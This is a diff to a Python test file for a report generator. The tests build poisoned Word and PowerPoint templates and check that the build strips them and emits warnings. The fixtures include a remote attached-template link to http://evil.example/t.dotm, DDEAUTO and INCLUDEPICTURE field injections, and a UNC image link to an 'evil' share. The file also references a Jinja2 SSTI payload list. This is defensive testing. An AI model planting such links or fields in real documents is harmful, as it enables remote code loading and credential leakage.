@@ -17,7 +17,8 @@ from reportgen.outlining import outline_for
 from reportgen.pack_check import check_pack
 from reportgen.packs import builtin_folder, find_pack, load_pack
 from reportgen.packs.scaffold import new_pack
-from tests.builders import make_brief
+from reportgen.pipeline import BuildResult, build
+from tests.builders import SAMPLE, make_brief
 
 #: Server-side template injection payloads as published for Jinja2 (HackTricks, PayloadsAllTheThings).
 SSTI = [
@@ -140,7 +141,13 @@ def _poison_docx(folder: Path, how: str) -> None:
             f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" Target="http://evil.example/t.dotm" '
             f'TargetMode="External"/></Relationships>'
         ).encode()
-        _rewrite(clean, reference, {}, {"word/_rels/settings.xml.rels": settings_rels})
+        settings = re.sub(
+            rb"(<w:settings[^>]*>)",
+            rb'\1<w:attachedTemplate xmlns:r="' + RELS.encode() + rb'" r:id="rId1"/>',
+            _part(clean, "word/settings.xml"),
+            count=1,
+        )
+        _rewrite(clean, reference, {"word/settings.xml": settings}, {"word/_rels/settings.xml.rels": settings_rels})
     elif how in ("DDEAUTO", "INCLUDEPICTURE", "DDEAUTO-utf16"):
         field = (
             b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
@@ -166,7 +173,6 @@ def _poison_docx(folder: Path, how: str) -> None:
 @pytest.mark.parametrize(
     ("how", "message"),
     [
-        ("attached-template", "external attachedTemplate relationship to 'http://evil.example/t.dotm'"),
         ("DDEAUTO", "has a DDEAUTO field in word/document.xml"),
         ("DDEAUTO-utf16", "has a DDEAUTO field in word/document.xml"),
         ("INCLUDEPICTURE", "has a INCLUDEPICTURE field in word/document.xml"),
@@ -199,11 +205,31 @@ def _with_master_relationship(folder: Path, kind: str, target: str) -> None:
     clean.unlink()
 
 
-def test_an_external_linked_picture_in_a_deck_master_is_refused(tmp_path: Path) -> None:
+def _built(folder: Path, tmp_path: Path) -> BuildResult:
+    return build(SAMPLE, audience="board", out_dir=tmp_path / "out", templates_dir=folder.parent)
+
+
+def _all_text(path: Path) -> bytes:
+    with zipfile.ZipFile(path) as archive:
+        return b"".join(archive.read(name) for name in archive.namelist())
+
+
+def test_an_external_linked_picture_in_a_deck_master_is_left_out_with_a_note(tmp_path: Path) -> None:
     folder = _board(tmp_path)
     _with_master_relationship(folder, "image", "\\\\evil\\share\\a.png")
-    with pytest.raises(PackError, match="external image relationship"):
-        load_pack(folder)
+    result = _built(folder, tmp_path)
+    assert b"evil" not in _all_text(result.files["pptx"])
+    assert any("link outside the file (image to" in warning for warning in result.warnings)
+    assert [p.severity for p in check_pack(folder)] == ["info"]
+
+
+def test_an_attached_template_on_a_server_is_left_out_of_the_brief_with_a_note(tmp_path: Path) -> None:
+    folder = _board(tmp_path)
+    _poison_docx(folder, "attached-template")
+    result = _built(folder, tmp_path)
+    brief = _all_text(result.files["docx"])
+    assert b"evil.example" not in brief and b"attachedTemplate" not in brief
+    assert any("attachedTemplate to 'http://evil.example/t.dotm'" in w for w in result.warnings)
 
 
 def test_web_hyperlinks_in_a_reference_are_allowed(tmp_path: Path) -> None:
